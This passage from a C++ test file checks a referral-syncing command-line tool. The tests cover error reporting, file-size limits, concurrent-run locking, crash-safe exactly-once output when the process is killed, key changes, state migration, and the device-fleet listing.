        CHECK(run.err.find("is not a Signpost sync server (404") != std::string::npos);
    }
    SECTION("server down") {
        world.stopServer();
        const CliResult run = world.pull(world.outDir(), "csv");
        REQUIRE(run.status.exitedWith(1));
        CHECK(lineCount(run.err) == 1);
        CHECK(run.err.find("cannot reach the server at " + world.url()) != std::string::npos);
        CHECK(run.err.find("(curl: connect)") != std::string::npos);
        CHECK(listOutput(world.outDir()).referrals.empty());
        const CliResult devices = world.signpost(
            {"devices", "--server", world.url(), "--token-file", world.tokenFile().string()});
        CHECK(devices.status.exitedWith(1));
        CHECK(devices.err.find("(curl: connect)") != std::string::npos);
        // Back up: the next run gets everything.
        world.startServer();
        const CliResult after = world.pull(world.outDir(), "csv", {}, {});
        // The restarted server has a new port, and this directory remembers the old address.
        REQUIRE(after.status.exitedWith(1));
        CHECK(after.err.find("holds referrals pulled from") != std::string::npos);
        CHECK(world.pull(world.outDir("fresh"), "csv").status.exitedWith(0));
        CHECK(writtenIds(world.outDir("fresh")).size() == 1);
    }
}

TEST_CASE("a write that fails (file too large) leaves no file and acknowledges nothing", "[pull]") {
    PullWorld world;
    Kiosk kiosk = world.enroll("Harpurhey kiosk");
    const auto pushed = world.pushReferrals(kiosk, 6);

    // dash's ulimit -f counts 512-byte blocks: the state file fits, the referrals do not.
    std::string command = "ulimit -f 2 && exec '" + test::builtProgram("signpost").string() + "'";
    for (const std::string& arg : world.pullArgs(world.outDir(), "csv")) {
        command += " '" + arg + "'";
    }
    test::ProcessOptions options = world.signpostOptions({"-c", command});
    options.program = "/bin/sh";
    const test::ExitStatus status = test::runProcess(options, 120s);
    const std::string err = test::readText(options.stderrFile);
    INFO(err);
    REQUIRE(status.exitedWith(1));
    CHECK(lineCount(err) == 1);
    CHECK(err.find("cannot write the referrals in " + world.outDir().string()) !=
          std::string::npos);
    CHECK(err.find("larger than this system allows") != std::string::npos);
    CHECK(err.find("nothing new was acknowledged") != std::string::npos);
    const DirContents contents = listOutput(world.outDir());
    CHECK(contents.referrals.empty());
    CHECK(contents.others.empty());  // the temporary file is gone too
    requireAcked(world, idsOf(pushed), false);

    const CliResult retry = world.pull(world.outDir(), "csv");
    INFO(retry.err);
    REQUIRE(retry.status.exitedWith(0));
    CHECK(writtenIds(world.outDir()).size() == 6);
    requireAcked(world, idsOf(pushed), true);
}

TEST_CASE("a second pull into the same directory is refused while one runs", "[pull]") {
    PullWorld world;
    Kiosk kiosk = world.enroll("Harpurhey kiosk");
    const auto pushed = world.pushReferrals(kiosk, 1);
    {
        tool::PullDirectory held(world.outDir());
        const CliResult run = world.pull(world.outDir(), "csv");
        REQUIRE(run.status.exitedWith(1));
        CHECK(run.err.find("another signpost pull is already writing to " +
                           world.outDir().string()) != std::string::npos);
        requireAcked(world, idsOf(pushed), false);
    }
    CHECK(world.pull(world.outDir(), "csv").status.exitedWith(0));
}

TEST_CASE("pull usage errors exit 2 and --help exits 0", "[pull]") {
    PullWorld world;
    const auto usage = [&](std::vector<std::string> args, const std::string& problem) {
        INFO(problem);
        const CliResult run = world.signpost(args);
        CHECK(run.status.exitedWith(2));
        CHECK(run.err.find(problem) != std::string::npos);
        CHECK(run.err.find("Usage: signpost") != std::string::npos);
    };
    auto args = world.pullArgs(world.outDir(), "xlsx");
    usage(args, "--format must be csv, json or ndjson, not 'xlsx'");
    args = world.pullArgs(world.outDir(), "csv");
    args[2] = "ftp://example.org";
    usage(args, "--server must be an http:// or https:// address");
    usage({"pull", "--token-file", "t", "--key", "k", "--out", "o"}, "--server is required");
    usage({"pull", "--server", world.url(), "--key", "k", "--out", "o"},
          "--token-file is required");
    usage({"pull", "--server", world.url(), "--token-file", "t", "--out", "o"},
          "--key is required");
    usage({"pull", "--server", world.url(), "--token-file", "t", "--key", "k"},
          "--out is required");
    usage(world.pullArgs(world.outDir(), "csv", {"--threads", "0"}),
          "--threads must be a whole number from 1 to 64");
    usage(world.pullArgs(world.outDir(), "csv", {"--threads", "two"}),
          "--threads must be a whole number from 1 to 64");
    usage({"devices", "--server", world.url()}, "--token-file is required");
    usage({"devices", "--server", world.url(), "--token-file", "t", "--format", "csv"},
          "unknown option --format");

    for (const std::string verb : {"pull", "devices"}) {
        const CliResult help = world.signpost({verb, "--help"});
        CHECK(help.status.exitedWith(0));
        CHECK(help.out.rfind("Usage: signpost " + verb, 0) == 0);
        CHECK(help.out.find("Exit status") != std::string::npos);
    }
    const CliResult help = world.signpost({"pull", "--help"});
    for (const char* column :
         {"Reference", "Received at", "Consent version", "Created at (device clock)"}) {
        CHECK(help.out.find(column) != std::string::npos);
    }
    const CliResult list = world.signpost({"help"});
    CHECK(list.out.find("  pull") != std::string::npos);
    CHECK(list.out.find("  devices") != std::string::npos);
}

TEST_CASE("killed at each step of a run, the next run writes each referral exactly once",
          "[pull]") {
    PullWorld world;
    Kiosk kiosk = world.enroll("Harpurhey kiosk");
    const CoordinatorKeyPair otherKey = CoordinatorKeyPair::generate();
    // More than one acknowledgement request's worth, so "acked-some" lands between requests.
    std::vector<Pushed> good = world.pushReferrals(kiosk, 1100);
    std::set<std::string> unreadable;

    int round = 0;
    for (const std::string point :
         {"page-written", "errors-committed", "ledger-appended", "referrals-committed",
          "state-saved", "acked-some", "acked-all"}) {
        INFO("killed at " << point);
        const auto more = world.pushReferrals(kiosk, 3);
        good.insert(good.end(), more.begin(), more.end());
        Pushed bad;
        world.push(kiosk, {world.referral(kiosk, {}, &bad, &otherKey.publicKey())});
        unreadable.insert(bad.id);
        const std::string format = round % 3 == 0 ? "csv" : round % 3 == 1 ? "json" : "ndjson";
        ++round;
        const auto out = world.outDir("out-" + point);

        const CliResult killed =
            world.pull(out, format, {}, {{"SIGNPOST_PULL_TEST_KILL_AT", point}});
        INFO(killed.err);
        REQUIRE(killed.status.signal == SIGKILL);

        const CliResult rerun = world.pull(out, format);
        INFO(rerun.err);
        // 3 when this run reports the unreadable items (its killed predecessor had not).
        REQUIRE((rerun.status.exitedWith(0) || rerun.status.exitedWith(3)));
        const CliResult clean = world.pull(out, format);
        INFO(clean.err);
        REQUIRE(clean.status.exitedWith(0));
        CHECK(clean.err.find("No new referrals.") != std::string::npos);

        const auto written = writtenIds(out);
        CHECK(written.size() == good.size());
        for (const Pushed& p : good) {
            CHECK(written.contains(p.id));
        }
        for (const auto& [id, count] : written) {
            INFO(id);
            CHECK(count == 1);
        }
        const auto errored = erroredIds(out);
        CHECK(errored.size() == unreadable.size());
        for (const auto& [id, count] : errored) {
            CHECK(unreadable.contains(id));
            CHECK(count == 1);
        }
        CHECK(listOutput(out).others.empty());
        const auto acked = world.ackState();
        for (const auto& [id, isAcked] : acked) {
            CHECK(isAcked == !unreadable.contains(id));
        }
    }
}

TEST_CASE("issue 9: killed at each step, then run with another key: only written ids are acked",
          "[pull]") {
    // The coordinators' key changes between runs (a new key, or the wrong file given): items
    // sealed to the first key become unreadable and items sealed to the second readable. A run
    // must acknowledge only what is in a referrals file of this directory, whatever the key.
    const CoordinatorKeyPair secondKey = CoordinatorKeyPair::generate();
    for (const std::string point :
         {"page-written", "errors-committed", "ledger-appended", "referrals-committed",
          "state-saved", "acked-some", "acked-all"}) {
        INFO("killed at " << point);
        PullWorld world;
        const std::filesystem::path secondKeyFile = world.dir() / "second.key";
        secondKey.saveEncrypted(secondKeyFile, kPassphrase, KdfStrength::Interactive);
        Kiosk kiosk = world.enroll("Harpurhey kiosk");
        // More than one acknowledgement request's worth, so "acked-some" lands between requests.
        const std::vector<Pushed> forFirst = world.pushReferrals(kiosk, 1010);
        std::vector<protocol::Submission> sealedToSecond;
        std::set<std::string> forSecond;
        for (int i = 0; i < 5; ++i) {
            Pushed pushed;
            sealedToSecond.push_back(world.referral(kiosk, {}, &pushed, &secondKey.publicKey()));
            forSecond.insert(pushed.id);
        }
        world.push(kiosk, sealedToSecond);
        const auto out = world.outDir();

        const CliResult killed =
            world.pull(out, "csv", {}, {{"SIGNPOST_PULL_TEST_KILL_AT", point}});
        INFO(killed.err);
        REQUIRE(killed.status.signal == SIGKILL);
        auto args = world.pullArgs(out, "csv");
        const auto keyAt = std::find(args.begin(), args.end(), "--key");
        REQUIRE(keyAt != args.end());
        *(keyAt + 1) = secondKeyFile.string();
        for (int run = 0; run < 2; ++run) {
            const CliResult again = world.signpost(args);
            INFO(again.err);
            REQUIRE((again.status.exitedWith(0) || again.status.exitedWith(3)));
        }

        const auto written = writtenIds(out);
        for (const auto& [id, count] : written) {
            INFO(id);
            CHECK(count == 1);
        }
        std::size_t ackedNotWritten = 0;
        std::size_t writtenNotAcked = 0;
        for (const auto& [id, acked] : world.ackState()) {
            ackedNotWritten += acked && !written.contains(id) ? 1 : 0;
            writtenNotAcked += !acked && written.contains(id) ? 1 : 0;
        }
        INFO(written.size() << " written");
        CHECK(ackedNotWritten == 0);
        CHECK(writtenNotAcked == 0);
        // Every item is either written or listed as unreadable: nothing is dropped.
        const auto errored = erroredIds(out);
        for (const auto& [id, acked] : world.ackState()) {
            INFO(id);
            CHECK((written.contains(id) || errored.contains(id)));
        }
    }
}

TEST_CASE("issue 9: a directory written before the ledger is migrated, nothing written twice",
          "[pull]") {
    PullWorld world;
    Kiosk kiosk = world.enroll("Harpurhey kiosk");
    const auto first = world.pushReferrals(kiosk, 6);
    const auto out = world.outDir();
    REQUIRE(world.pull(out, "csv").status.exitedWith(0));
    // Make it look like the version 1 tool left it: its state file, no ledger.
    std::filesystem::remove(out / tool::kPullLedgerFileName);
    test::writeText(out / tool::kPullStateFileName,
                    "{\"format\":\"signpost-pull-state\",\"version\":1,\"server\":\"" +
                        world.url() + "\",\"cursor\":6,\"acked_through\":6}");
    const auto second = world.pushReferrals(kiosk, 2);
    const CliResult migrated = world.pull(out, "csv");
    INFO(migrated.err);
    REQUIRE(migrated.status.exitedWith(0));
    const auto written = writtenIds(out);
    CHECK(written.size() == 8);
    for (const auto& [id, count] : written) {
        CHECK(count == 1);
    }
    // The ledger now holds the six the old version wrote, so they are never written again.
    tool::PullLedger ledger(out / tool::kPullLedgerFileName);
    for (const Pushed& p : first) {
        CHECK(ledger.kindOf(p.id) == 'L');
    }
    for (const Pushed& p : second) {
        CHECK(ledger.kindOf(p.id) == 'W');
    }
}

TEST_CASE("kill -9 at random moments, with items arriving between runs: exactly once",
          "[pull][.]") {
    PullWorld world;
    std::vector<Kiosk> kiosks;
    kiosks.push_back(world.enroll("Harpurhey kiosk"));
    kiosks.push_back(world.enroll("Gorton kiosk"));
    const CoordinatorKeyPair otherKey = CoordinatorKeyPair::generate();
    const auto out = world.outDir();
    std::set<std::string> good;
    std::set<std::string> unreadable;
    for (const Pushed& p : world.pushReferrals(kiosks[0], 300)) {
        good.insert(p.id);
    }

    // How long a run takes here, to spread the timed kills over a whole run.
    const auto started = std::chrono::steady_clock::now();
    {
        const CliResult calibration = world.pull(world.outDir("calibration"), "csv");
        REQUIRE(calibration.status.exitedWith(0));
    }
    auto runTime = std::chrono::duration_cast<std::chrono::milliseconds>(
        std::chrono::steady_clock::now() - started);

    const unsigned seed = std::random_device{}();
    INFO("seed " << seed);
    std::mt19937 random(seed);
    const auto below = [&](long long bound) {
        return static_cast<long long>(random() % static_cast<unsigned>(bound + 1));
    };
    const char* formats[] = {"csv", "json", "ndjson"};
    // How a run is killed. A timed kill alone mostly lands early (key derivation, fetching) on a
    // busy machine, so two modes wait for a phase to start first.
    enum Mode { Timed, WhileWriting, AfterCommit };
    std::map<std::string, int> outcomes;
    // At least 50 runs, and on until 25 of them were really killed (on a loaded machine more runs
    // finish before their kill lands): the loop's worth is in the kills, not in the run count.
    const auto kills = [&] {
        return outcomes["killed timed"] + outcomes["killed while writing"] +
               outcomes["killed after a commit"];
    };
    for (int iteration = 0; iteration < 200 && (iteration < 50 || kills() < 25); ++iteration) {
        Kiosk& kiosk = kiosks[random() % 2];
        for (const Pushed& p : world.pushReferrals(kiosk, static_cast<int>(random() % 80))) {
            good.insert(p.id);
        }
        if (random() % 5 == 0) {
            Pushed bad;
            world.push(kiosk, {world.referral(kiosk, {}, &bad, &otherKey.publicKey())});
            unreadable.insert(bad.id);
        }
        const DirContents before = listOutput(out);
        const std::string stateBefore = std::filesystem::exists(out / tool::kPullStateFileName)
                                            ? test::readText(out / tool::kPullStateFileName)
                                            : std::string();
        const auto mode = static_cast<Mode>(random() % 3);
        const auto runStarted = std::chrono::steady_clock::now();
        auto child = test::ChildProcess::spawn(
            world.signpostOptions(world.pullArgs(out, formats[random() % 3])));
        bool phaseSeen = true;
        switch (mode) {
            case Timed:
                std::this_thread::sleep_for(
                    std::chrono::milliseconds(below(runTime.count() * 3 / 2)));
                break;
            case WhileWriting:
                phaseSeen = test::waitUntil(
                    [&] { return !listOutput(out).others.empty() || !child.running(); }, 60s, 1ms);
                std::this_thread::sleep_for(std::chrono::milliseconds(below(20)));
                break;
            case AfterCommit:
                // A new file under a final name, or the state file rewritten: the windows between
                // rename, state update and acknowledgements.
                phaseSeen = test::waitUntil(
                    [&] {
                        const DirContents now = listOutput(out);
                        const bool stateChanged =
                            std::filesystem::exists(out / tool::kPullStateFileName) &&
                            test::readText(out / tool::kPullStateFileName) != stateBefore;
                        return now.referrals.size() + now.errors.size() >
                                   before.referrals.size() + before.errors.size() ||
                               stateChanged || !child.running();
                    },
                    60s, 1ms);
                std::this_thread::sleep_for(std::chrono::milliseconds(below(5)));
                break;
        }
        REQUIRE(phaseSeen);
        const test::ExitStatus status = child.kill();
        const char* modeName = mode == Timed          ? "timed"
                               : mode == WhileWriting ? "while writing"
                                                      : "after a commit";
        if (status.exited) {
            INFO(child.report());
            REQUIRE((status.code == 0 || status.code == 3));
            ++outcomes[std::string("finished (") + modeName + ")"];
            runTime = std::chrono::duration_cast<std::chrono::milliseconds>(
                std::chrono::steady_clock::now() - runStarted);
        } else {
            ++outcomes[std::string("killed ") + modeName];
        }
        // Never a duplicate, at any moment.
        for (const auto& [id, times] : writtenIds(out)) {
            INFO(id << " after iteration " << iteration);
            REQUIRE(times == 1);
            REQUIRE(good.contains(id));
        }
    }
    std::string summary;
    for (const auto& [outcome, count] : outcomes) {
        summary += "; " + outcome + ": " + std::to_string(count);
    }
    WARN("kill loop (seed " << seed << ")" << summary);
    CHECK(kills() >= 25);

    const CliResult final = world.pull(out, "csv");
    INFO(final.err);
    REQUIRE((final.status.exitedWith(0) || final.status.exitedWith(3)));
    const auto written = writtenIds(out);
    CHECK(written.size() == good.size());
    for (const std::string& id : good) {
        INFO(id);
        REQUIRE(written.contains(id));
        CHECK(written.at(id) == 1);
    }
    const auto errored = erroredIds(out);
    CHECK(errored.size() == unreadable.size());
    for (const auto& [id, count] : errored) {
        CHECK(unreadable.contains(id));
        CHECK(count == 1);
    }
    for (const std::string& other : listOutput(out).others) {
        FAIL_CHECK("left in the output directory: " << other);
    }
    for (const auto& [id, acked] : world.ackState()) {
        CHECK(acked == !unreadable.contains(id));
    }
}

TEST_CASE("devices prints the fleet as an aligned table, or JSON", "[pull]") {
    PullWorld world;
    Kiosk harpurhey = world.enroll("Harpurhey kiosk");
    Kiosk gorton = world.enroll("Gorton kiosk");
    const Kiosk old = world.enroll("Old kiosk");
    protocol::Heartbeat beat;
    beat.appVersion = "0.1.0";
    beat.queued = 3;
    beat.sent = 120;
    beat.rejected = 1;
    beat.lastError = "timeout";
    beat.freeDiskBytes = 12'345'678'901;
    REQUIRE(world.post("/v1/devices/heartbeat", harpurhey.token, protocol::toJson(beat)).status ==
            204);
    const std::string revokedId = old.id;
    world.admin({"devices", "revoke", revokedId});

    const CliResult table = world.signpost(
        {"devices", "--server", world.url(), "--token-file", world.tokenFile().string()});
    INFO(table.err);
    REQUIRE(table.status.exitedWith(0));
    CHECK(table.err.find("3 kiosks (1 revoked).") != std::string::npos);
    std::vector<std::string> lines;
    for (std::size_t start = 0; start < table.out.size();) {
        const std::size_t end = table.out.find('\n', start);
        lines.push_back(table.out.substr(start, end - start));
        start = end + 1;
    }
    REQUIRE(lines.size() == 4);
    const std::string& header = lines[0];
    CHECK(header.rfind("DEVICE", 0) == 0);
    // Every column starts at the same offset on every line (the names here are ASCII).
    for (const char* column : {"VENUE", "LAST SEEN", "VERSION", "QUEUED", "SENT", "REJECTED",
                               "LAST ERROR", "FREE DISK", "STAFF", "REVOKED", "ID"}) {
        const std::size_t at = header.find(std::string("  ") + column);
        INFO(column);
        REQUIRE(at != std::string::npos);
        for (std::size_t i = 1; i < lines.size(); ++i) {
            CHECK(lines[i].size() > at + 2);
            CHECK(lines[i][at + 1] == ' ');
            CHECK(lines[i][at + 2] != ' ');
        }
    }
    const auto rowOf = [&](const std::string& name) {
        for (const std::string& line : lines) {
            if (line.rfind(name, 0) == 0) {
                return line;
            }
        }
        FAIL("no row for " << name);
        return std::string();
    };
    const std::string active = rowOf("Harpurhey kiosk");
    CHECK(active.find("Harpurhey Library") != std::string::npos);
    CHECK(active.find("UTC (just now)") != std::string::npos);
    CHECK(std::regex_search(active, std::regex("0\\.1\\.0 +3 +120 +1 +timeout +12\\.3 GB +- +no +" +
                                               harpurhey.id + "$")));
    const std::string silent = rowOf("Gorton kiosk");
    CHECK(std::regex_search(silent, std::regex("  - +- +- +- +- +- +- +no +" + gorton.id + "$")));
    const std::string revoked = rowOf("Old kiosk");
    CHECK(std::regex_search(revoked, std::regex(" yes +" + revokedId + "$")));

    const CliResult asJson = world.signpost(
        {"devices", "--server", world.url(), "--token-file", world.tokenFile().string(), "--json"});
    REQUIRE(asJson.status.exitedWith(0));
    const json devices = json::parse(asJson.out);
    REQUIRE(devices.is_array());
    REQUIRE(devices.size() == 3);
    std::map<std::string, json> byId;
    for (const json& device : devices) {
        byId[device["device_id"].get<std::string>()] = device;
    }
    CHECK(byId.at(harpurhey.id)["name"] == "Harpurhey kiosk");
    CHECK(byId.at(harpurhey.id)["last_heartbeat"]["queue"]["sent"] == 120);
    CHECK(byId.at(harpurhey.id)["last_heartbeat"]["free_disk_bytes"] == 12'345'678'901ULL);
    CHECK(byId.at(revokedId)["revoked"] == true);
    CHECK(byId.at(gorton.id)["revoked"] == false);

    SECTION("a device token is refused with 403") {
        test::writePrivateText(world.dir() / "device.token", gorton.token + "\n");
        const CliResult refused =
            world.signpost({"devices", "--server", world.url(), "--token-file",
                            (world.dir() / "device.token").string()});
        REQUIRE(refused.status.exitedWith(1));
        CHECK(refused.err.find("403") != std::string::npos);
    }
}
